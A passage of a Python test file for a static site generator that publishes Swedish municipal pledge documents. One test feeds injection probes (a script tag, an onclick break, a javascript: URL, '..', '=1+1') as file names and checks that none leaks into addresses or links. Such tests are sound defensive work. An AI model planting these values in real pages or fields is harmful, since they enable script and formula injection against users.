    files = _built(written(tmp_path, chain("Ord", "Mening."), config)).files

    assert feedparser.parse(io.BytesIO(files["flode.xml"])).bozo is False
    assert _xml(files["data/dcat.rdf"]) is not None
    assert [
        name for name, data in files.items() if character in "\x00\x07\x1b" and character.encode() in data
    ] == []


# ---------------------------------------------------------------- names and addresses


def test_a_text_in_the_name_of_a_file_stays_out_of_addresses(tmp_path: Path) -> None:
    names = [
        "<script>alert(1)<",
        '" onclick="x',
        "javascript:alert(1)",
        "..",
        "a b#c?d",
        "&amp;",
        "å'ö",
        "=1+1",
    ]
    documents = {
        f"exempelby/{name}": {
            "dokument": "medborgarlöfte",
            "titel": f"Löfte {number}",
            "period": {"från": "2024", "till": "2024"},
            "parter": [{"id": "k", "typ": "kommun", "namn": "Exempelby kommun", "kommunkod": "9999"}],
        }
        for number, name in enumerate(names)
        if name != ".."
    }
    built = _built(written(tmp_path, documents))
    odd = [name for name in built.files if not re.fullmatch(r"[a-z0-9./-]+", name)]
    links = {link for _, reader in _pages(built) for link in reader.links()}

    assert odd == []
    assert [link for link in links if _scheme(link) not in KNOWN_SCHEMES and link != "data:,"] == []
    assert {row["id"] for row in _rows(built.files["data/loften.csv"])} == set(documents)


def test_a_long_name_of_a_place_can_be_published(tmp_path: Path) -> None:
    documents = chain("Exempelby" * 60, "Mening.")
    workspace = written(tmp_path, documents)

    files = contents(output_files(Site(workspace, "sv"), None, tmp_path))

    assert publish(tmp_path / "site", files).files > 20


def test_an_indicator_that_is_the_id_of_a_document_does_not_stop_the_site(tmp_path: Path) -> None:
    documents = chain("Ord", "Mening.")
    documents["exempelby/lofte-1"]["effektmål"][1]["indikator"] = "exempelby/trygghetsmatning-1"
    workspace = written(tmp_path, documents)

    assert "exempelby/lofte-1.html" in dict(LazySite(workspace, "sv"))
